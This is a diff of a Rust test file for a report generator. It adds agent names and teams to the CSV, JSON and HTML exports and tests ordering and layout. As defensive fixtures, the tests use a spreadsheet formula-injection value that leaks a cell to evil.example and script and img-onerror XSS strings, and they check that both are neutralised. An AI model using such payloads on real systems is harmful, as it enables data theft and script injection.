@@ -6,6 +6,7 @@ use super::*;
 use crate::domain::{AgentState, Origin};
 use crate::store::attempts::{self, AttemptRow};
 use crate::store::history::{self, NewInterval};
+use crate::store::roster::{self, RosterEntry};
 use crate::store::testing::temp_store;
 use crate::store::{Store, to_ms};
 
@@ -80,6 +81,9 @@ async fn enter(store: &Store, agent: &str, state: AgentState, at: DateTime<Utc>)
 /// - a2: IDLE from 09:50, open; no attempts.
 /// - a3: two attempts (20 ms, 10 ms), both succeeded; no intervals.
 /// - a4: IDLE 07:00–08:00, wholly before the window: not in the report.
+///
+/// The roster names a1 (Ada Lovelace, team t_1 Care) and a3 (Grace Hopper, no team);
+/// a2 was never listed.
 async fn fixture() -> (Store, tempfile::TempDir) {
     let (store, dir) = temp_store().await;
     enter(&store, "a1", AgentState::NotReady, minutes(-30)).await;
@@ -141,8 +145,33 @@ async fn fixture() -> (Store, tempfile::TempDir) {
     )
     .await
     .unwrap();
+    roster::remember(
+        &mut tx,
+        &[
+            named("a1", "Ada Lovelace", Some(("t_1", "Care"))),
+            named("a3", "Grace Hopper", None),
+        ],
+        0,
+    )
+    .await
+    .unwrap();
     tx.commit().await.unwrap();
     (store, dir)
+}
+
+fn named(id: &str, name: &str, team: Option<(&str, &str)>) -> RosterEntry {
+    RosterEntry {
+        agent_id: id.into(),
+        name: Some(name.into()),
+        team_id: team.map(|t| t.0.into()),
+        team_name: team.map(|t| t.1.into()),
+    }
+}
+
+async fn name_agents(store: &Store, entries: &[RosterEntry]) {
+    let mut tx = store.begin_write().await.unwrap();
+    roster::remember(&mut tx, entries, 0).await.unwrap();
+    tx.commit().await.unwrap();
 }
 
 /// Collects every chunk.
@@ -195,6 +224,9 @@ async fn every_number_of_the_report_matches_the_hand_computed_fixture() {
         *a1,
         AgentSummary {
             agent_id: "a1".into(),
+            name: Some("Ada Lovelace".into()),
+            team_id: Some("t_1".into()),
+            team: Some("Care".into()),
             transitions: 20,
             succeeded: 14,
             rejections: 5,
@@ -225,6 +257,11 @@ async fn every_number_of_the_report_matches_the_hand_computed_fixture() {
     );
 
     let a2 = &report.agents[1];
+    assert_eq!(
+        (&a2.name, &a2.team_id, &a2.team),
+        (&None, &None, &None),
+        "never listed: no name, no team"
+    );
     assert_eq!(a2.transitions, 0);
     assert_eq!(a2.violation_frequency, None, "no attempts: unknown, not 0");
     assert_eq!(a2.latency_mean_ms, None);
@@ -233,6 +270,8 @@ async fn every_number_of_the_report_matches_the_hand_computed_fixture() {
     assert_eq!(a2.idle_seconds, 600.0);
 
     let a3 = &report.agents[2];
+    assert_eq!(a3.name.as_deref(), Some("Grace Hopper"));
+    assert_eq!(a3.team, None);
     assert_eq!(a3.transitions, 2);
     assert_eq!(a3.succeeded, 2);
     assert_eq!(a3.violation_frequency, Some(0.0));
@@ -555,7 +594,7 @@ async fn adherence_matches_the_hand_computed_fixture_in_every_format() {
     assert!(html.contains("<th>Adherence exceptions</th>"));
     assert!(
         html.contains(
-            "<td>83.3</td><td>1:00:00</td><td>0:50:00</td><td>0:00:00</td><td>2</td></tr>"
+            "<td>83.3</td><td>1:00:00</td><td>0:50:00</td><td>0:00:00</td><td>2</td><td>20</td>"
         ),
         "durations read as h:mm:ss: {html}"
     );
@@ -695,9 +734,13 @@ async fn csv_neutralises_agent_ids_a_spreadsheet_would_run_as_formulas() {
         );
     }
     assert!(ids.contains(&"a1"), "a plain id is unchanged");
-    // The figures (all but the id and the window's ends) are still numbers.
+    // The figures (between the id and the window's ends) are still numbers.
+    let from = csv_export::COLUMNS
+        .iter()
+        .position(|c| *c == "from")
+        .unwrap();
     for row in &rows {
-        let figures = row.iter().skip(1).take(csv_export::COLUMNS.len() - 3);
+        let figures = row.iter().skip(1).take(from - 1);
         for figure in figures {
             assert!(
                 figure.is_empty() || figure.parse::<f64>().is_ok(),
@@ -705,4 +748,256 @@ async fn csv_neutralises_agent_ids_a_spreadsheet_would_run_as_formulas() {
             );
         }
     }
+}
+
+#[tokio::test]
+async fn csv_has_name_and_team_as_the_last_columns_empty_when_unknown() {
+    let (store, _dir) = fixture().await;
+    let report = build(&store, minutes(120)).await;
+    let text = render(&store, &report, Format::Csv).await.text();
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let headers: Vec<String> = reader.headers().unwrap().iter().map(Into::into).collect();
+    assert_eq!(
+        headers[..2],
+        ["agent_id", "transitions"],
+        "old columns stay put"
+    );
+    assert_eq!(
+        headers[headers.len() - 5..],
+        ["from", "to", "name", "team_id", "team"]
+    );
+    let rows: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(Into::into).collect())
+        .collect();
+    let tail = |row: &Vec<String>| row[row.len() - 3..].to_vec();
+    assert_eq!(tail(&rows[0]), ["Ada Lovelace", "t_1", "Care"]);
+    assert_eq!(tail(&rows[1]), ["", "", ""], "a2 was never listed");
+    assert_eq!(tail(&rows[2]), ["Grace Hopper", "", ""]);
+}
+
+#[tokio::test]
+async fn csv_neutralises_names_and_teams_a_spreadsheet_would_run_as_formulas() {
+    let (store, _dir) = fixture().await;
+    let hyperlink = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    name_agents(&store, &[named("a1", hyperlink, Some(("+t_1", "@SUM(1)")))]).await;
+    let report = build(&store, minutes(120)).await;
+    let text = render(&store, &report, Format::Csv).await.text();
+    let row = csv::Reader::from_reader(text.as_bytes())
+        .records()
+        .next()
+        .unwrap()
+        .unwrap();
+    let tail: Vec<&str> = row.iter().skip(row.len() - 3).collect();
+    assert_eq!(
+        tail,
+        [format!("'{hyperlink}").as_str(), "'+t_1", "'@SUM(1)"],
+        "{text}"
+    );
+}
+
+#[tokio::test]
+async fn json_agents_carry_name_team_id_and_team() {
+    let (store, _dir) = fixture().await;
+    let report = build(&store, minutes(120)).await;
+    let text = render(&store, &report, Format::Json).await.text();
+    let json: serde_json::Value = serde_json::from_str(&text).unwrap();
+    let agents = &json["agents"];
+    assert_eq!(agents[0]["name"], "Ada Lovelace");
+    assert_eq!(agents[0]["team_id"], "t_1");
+    assert_eq!(agents[0]["team"], "Care");
+    assert_eq!(agents[1]["name"], serde_json::Value::Null);
+    assert_eq!(agents[1]["team"], serde_json::Value::Null);
+    assert_eq!(agents[2]["name"], "Grace Hopper");
+}
+
+/// An agent with only what the page's order depends on.
+fn summary(
+    id: &str,
+    name: Option<&str>,
+    team: Option<(&str, &str)>,
+    pct: Option<f64>,
+) -> AgentSummary {
+    AgentSummary {
+        agent_id: id.into(),
+        name: name.map(Into::into),
+        team_id: team.map(|t| t.0.into()),
+        team: team.map(|t| t.1.into()),
+        adherence_pct: pct,
+        ..AgentSummary::default()
+    }
+}
+
+fn report_of(agents: Vec<AgentSummary>, zone: Option<chrono_tz::Tz>) -> Report {
+    Report {
+        window: window(),
+        generated_at: minutes(120),
+        zone,
+        agents,
+    }
+}
+
+/// The `data-agent` ids of the page's rows and its team headings, in page order, from
+/// the first per-agent table.
+fn page_order(html: &str) -> Vec<String> {
+    let table = html.split("<table class=\"agents\">").nth(1).unwrap();
+    let table = &table[..table.find("</table>").unwrap()];
+    let mut order = Vec::new();
+    for piece in table.split("<tr class=\"").skip(1) {
+        if let Some(rest) = piece.strip_prefix("team\"><th colspan=\"13\">") {
+            let name = &rest[..rest.find([' ', '<']).unwrap()];
+            order.push(format!("team {name}"));
+        } else if let Some(rest) = piece.strip_prefix("agent\" data-agent=\"") {
+            order.push(rest[..rest.find('"').unwrap()].to_owned());
+        }
+    }
+    order
+}
+
+#[tokio::test]
+async fn html_groups_by_team_and_lists_worst_adherence_first_with_unknown_figures_last() {
+    let (store, _dir) = temp_store().await;
+    let care = Some(("t_1", "Care"));
+    let billing = Some(("t_2", "billing"));
+    let report = report_of(
+        vec![
+            summary("u_01", Some("Ann"), care, Some(95.0)),
+            summary("u_02", Some("Bob"), billing, None),
+            summary("u_03", Some("Cem"), care, None),
+            summary("u_04", Some("Dee"), care, Some(40.5)),
+            summary("u_05", None, None, Some(10.0)),
+            summary("u_06", Some("Eve"), billing, Some(99.0)),
+            summary("u_07", Some("Fay"), care, Some(40.5)),
+            summary("u_08", Some("Gus"), care, Some(100.0)),
+        ],
+        None,
+    );
+    let html = render(&store, &report, Format::Html).await.text();
+    assert_eq!(
+        page_order(&html),
+        [
+            // Teams by name whatever the case; agents without a team last.
+            "team billing",
+            "u_06",
+            "u_02",
+            "team Care",
+            // 40.5 twice: by name.
+            "u_04",
+            "u_07",
+            "u_01",
+            "u_08",
+            "u_03",
+            "team No",
+            "u_05",
+        ],
+    );
+    // The second table and the chart follow the same order.
+    let detail = html.split("<table class=\"agents\">").nth(2).unwrap();
+    let ids: Vec<&str> = detail
+        .split("data-agent=\"")
+        .skip(1)
+        .map(|p| &p[..p.find('"').unwrap()])
+        .collect();
+    assert_eq!(
+        ids,
+        [
+            "u_06", "u_02", "u_04", "u_07", "u_01", "u_08", "u_03", "u_05"
+        ]
+    );
+    let chart = &html[html.find("<svg").unwrap()..html.find("</svg>").unwrap()];
+    let labels: Vec<&str> = chart
+        .split("<title>")
+        .skip(1)
+        .map(|p| &p[..p.find(':').unwrap()])
+        .collect();
+    assert_eq!(labels[..3], ["Eve (u_06)", "Bob (u_02)", "Dee (u_04)"]);
+    assert_eq!(labels[7], "u_05", "no name: the id");
+    assert!(html.contains("Care <span class=\"id\">t_1</span> · 5 agents · mean adherence 69.0%"));
+}
+
+#[tokio::test]
+async fn html_shows_names_with_ids_and_escapes_a_hostile_name_and_team() {
+    let (store, _dir) = temp_store().await;
+    let report = report_of(
+        vec![
+            summary(
+                "u_01",
+                Some("<script>alert('name')</script>"),
+                Some(("t_<b>", "<img src=x onerror=alert(1)>")),
+                Some(50.0),
+            ),
+            summary("u_02", Some("Ada Lovelace"), None, None),
+        ],
+        None,
+    );
+    let html = render(&store, &report, Format::Html).await.text();
+    assert!(
+        !html.contains("<script"),
+        "no script element, not even the name's"
+    );
+    assert!(!html.contains("<img") && !html.contains("<b>"));
+    assert!(html.contains("&lt;script&gt;alert(&#39;name&#39;)&lt;/script&gt;"));
+    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
+    assert!(html.contains("<td>Ada Lovelace<br><span class=\"id\">u_02</span></td>"));
+}
+
+#[tokio::test]
+async fn html_title_and_heading_name_the_window_in_the_chosen_time_zone() {
+    let (store, _dir) = temp_store().await;
+    let berlin = report_of(vec![], Some(parse_zone("Europe/Berlin").unwrap()));
+    let html = render(&store, &berlin, Format::Html).await.text();
+    let expected = "Compliance report 2026-11-20 10:00 – 2026-11-20 11:00 (Europe/Berlin)";
+    assert!(
+        html.contains(&format!("<title>{expected}</title>")),
+        "{html}"
+    );
+    assert!(html.contains(&format!("<h1>{expected}</h1>")));
+
+    let utc = report_of(vec![], None);
+    let html = render(&store, &utc, Format::Html).await.text();
+    assert!(
+        html.contains("<title>Compliance report 2026-11-20 09:00 – 2026-11-20 10:00 (UTC)</title>")
+    );
+}
+
+#[test]
+fn the_window_label_shows_seconds_only_when_an_end_has_them() {
+    let mut report = report_of(vec![], Some(parse_zone("America/New_York").unwrap()));
+    report.window.to = minutes(60) + Duration::seconds(30);
+    assert_eq!(
+        report.window_label(),
+        "2026-11-20 04:00:00 – 2026-11-20 05:00:30 (America/New_York)"
+    );
+}
+
+#[tokio::test]
+async fn html_tables_take_the_page_width_with_fixed_shares_and_wrap_long_names() {
+    let (store, _dir) = temp_store().await;
+    let long = "Maximiliana-Theodora Wolkenstein-Rodenegg von und zu Hohenlohe-Schillingsfürst";
+    let report = report_of(
+        vec![summary("u_01", Some(long), Some(("t_1", long)), Some(1.0))],
+        None,
+    );
+    let html = render(&store, &report, Format::Html).await.text();
+    let style = &html[html.find("<style>").unwrap()..html.find("</style>").unwrap()];
+    assert!(style.contains("table.agents{width:100%;table-layout:fixed}"));
+    assert!(style.contains("table.agents th,table.agents td{overflow-wrap:anywhere}"));
+    assert!(style.contains("svg{max-width:100%;height:auto}"));
+    // Nothing in the style is wider than a 1366 px screen: no width in px or em
+    // beyond the legend's swatches.
+    for width in style.split("width:").skip(1) {
+        let value = &width[..width.find([';', '}']).unwrap()];
+        assert!(
+            value.ends_with('%') || value == "12px",
+            "a fixed width {value} in {style}"
+        );
+    }
+    assert_eq!(html.matches("<table class=\"agents\">").count(), 2);
+    // The chart is drawn 800 px wide and may shrink.
+    assert!(html.contains("<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"800\""));
+    // The summary is the only other table: two columns of short text.
+    assert_eq!(html.matches("<table").count(), 3);
+    // The chart cuts a long name; the tables keep it whole.
+    assert!(html.contains(">Maximiliana-Theodora …</text>"), "{html}");
+    assert_eq!(html.matches(&format!("<td>{long}<br>")).count(), 2);
 }
